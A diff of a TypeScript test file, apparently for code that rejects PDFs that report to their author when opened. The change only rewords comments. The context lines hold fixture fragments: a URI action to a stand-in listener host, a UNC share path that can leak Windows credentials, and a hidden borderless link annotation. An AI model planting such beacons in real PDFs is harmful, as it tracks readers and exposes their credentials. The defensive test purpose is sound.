@@ -6,7 +6,7 @@ import { pdfRefusals } from './read'
 import { suspicion } from './suspicion.mjs'
 import { refusalOf } from './test-sending'
 
-// PDFs that call somebody, each kind with a file: what its maker learns from is never kept.
+// PDFs that report to their author when opened, one for each way: such parts are never stored.
 
 beforeEach(() => {
   testDatabase()
@@ -16,7 +16,7 @@ const away = '<< /S /URI /URI (https://listener.example/opened) >>'
 const share = '(\\\\\\\\listener\\\\share\\\\x.pdf)' // \\\\listener\\share\\x.pdf, as a PDF writes it
 const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Border [0 0 0] /A ${action} >>`
 
-/** The parts of a file that call somebody: what stands in the catalogue, in objects of their own (from number 20 on) and on the page. */
+/** Parts of a file that report to its author: in the catalogue, in objects (from number 20 on), and on the page. */
 type PdfParts = { catalogue?: string; objects?: string[]; page?: string }
 
 const calling: [string, PdfParts, string][] = [
